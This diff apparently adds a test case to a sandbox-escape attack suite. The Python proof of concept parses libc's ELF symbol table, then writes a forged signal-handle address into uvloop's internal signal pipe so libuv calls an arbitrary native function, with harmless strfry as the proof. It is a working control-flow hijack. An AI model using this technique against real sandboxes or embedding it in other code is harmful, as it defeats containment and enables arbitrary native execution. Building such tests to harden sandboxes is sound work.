@@ -1,0 +1,65 @@
+# class: machine_code
+# rule: native_code
+# needs: module:uvloop
+# open: libuv takes the address of a signal's handle from a pipe at an ordinary fd. Its own handler
+#   writes there by the same call as everything else, so that no door of libc tells them apart
+# success: libuv calls the address that it reads from its pipe of signals
+# proof: word
+import os
+import signal
+import struct
+import sys
+
+import uvloop
+from attack import attempt
+
+CALLBACK, SIGNAL = 96, 104  # in uv_signal_t
+
+
+def address_in_libc(name):
+    """Where a function of libc lies: from the file's own table of symbols."""
+    with open("/proc/self/maps") as maps:
+        lines = [line.split() for line in maps if "/libc.so" in line or "/libc-2." in line]
+    base = int(lines[0][0].partition("-")[0], 16)
+    with open(lines[0][5], "rb") as file:
+        image = file.read()
+    start, size, count = struct.unpack_from("<Q10xHH", image, 40)
+    sections = [struct.unpack_from("<IIQQQQIIQQ", image, start + i * size) for i in range(count)]
+    table = next(section for section in sections if section[1] == 11)  # SHT_DYNSYM
+    texts = sections[table[6]]
+    for at in range(table[4], table[4] + table[5], 24):
+        text, kind, _, _, value, _ = struct.unpack_from("<IBBHQQ", image, at)
+        where = texts[4] + text
+        if value and kind & 15 == 2 and image[where : image.index(b"\0", where)] == name.encode():
+            return base + value
+    raise LookupError(name)
+
+
+def pipes():
+    found = {}
+    for fd in range(64):
+        try:
+            found.setdefault(os.readlink(f"/proc/self/fd/{fd}"), []).append(fd)
+        except OSError:
+            continue
+    return {name: fds for name, fds in found.items() if name.startswith("pipe:")}
+
+
+@attempt
+def call():
+    before = pipes()
+    loop = uvloop.new_event_loop()
+    forged = bytearray(256)
+    forged[:26] = b"abcdefghijklmnopqrstuvwxyz"
+    struct.pack_into("<Q", forged, CALLBACK, address_in_libc("strfry"))
+    struct.pack_into("<i", forged, SIGNAL, signal.SIGUSR1)
+    forged = bytes(forged)
+    was = bytearray(forged)
+    message = struct.pack("<Qi4x", id(forged) + sys.getsizeof(b"") - 1, signal.SIGUSR1)
+    for name, fds in pipes().items():
+        if name not in before:
+            os.write(max(fds), message)
+    loop.call_later(0.2, loop.stop)
+    loop.run_forever()
+    # strfry has changed the order of the letters.
+    return forged[:26] != was[:26] and sorted(forged[:26]) == sorted(was[:26])
